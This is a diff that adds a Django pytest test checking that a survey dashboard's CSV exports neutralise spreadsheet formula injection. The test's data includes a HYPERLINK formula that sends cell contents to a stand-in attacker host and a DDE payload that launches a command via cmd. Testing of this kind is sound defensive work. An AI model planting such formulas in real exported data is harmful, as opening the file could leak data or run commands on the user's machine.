@@ -108,3 +108,23 @@ def test_export_follow_ups_lists_cases_with_root_cause(client, manager, agent, o
     assert len(_rows(client.get(reverse("dashboard-export-follow-ups")))) == 2
     client.force_login(other_agent)
     assert len(_rows(client.get(reverse("dashboard-export-follow-ups")))) == 1
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+@pytest.mark.django_db
+@time_machine.travel(NOW, tick=False)
+@pytest.mark.parametrize("comment", FORMULAS)
+def test_exports_neutralise_formulas_in_both_files(client, manager, team, comment):
+    survey = SurveyFactory(name="=cmd|' /C calc'!A0")
+    answer = ResponseFactory(invitation__survey=survey, score=2, comment=comment)
+    FollowUpFactory(response=answer, team=team)
+    client.force_login(manager)
+
+    responses = _rows(client.get(reverse("dashboard-export-responses")))
+    follow_ups = _rows(client.get(reverse("dashboard-export-follow-ups")))
+
+    assert (responses[1][2], responses[1][4], responses[1][5]) == ("'=cmd|' /C calc'!A0", "2", "'" + comment)
+    assert follow_ups[1][10] == "'" + comment
+    assert follow_ups[1][8] == "'=cmd|' /C calc'!A0"
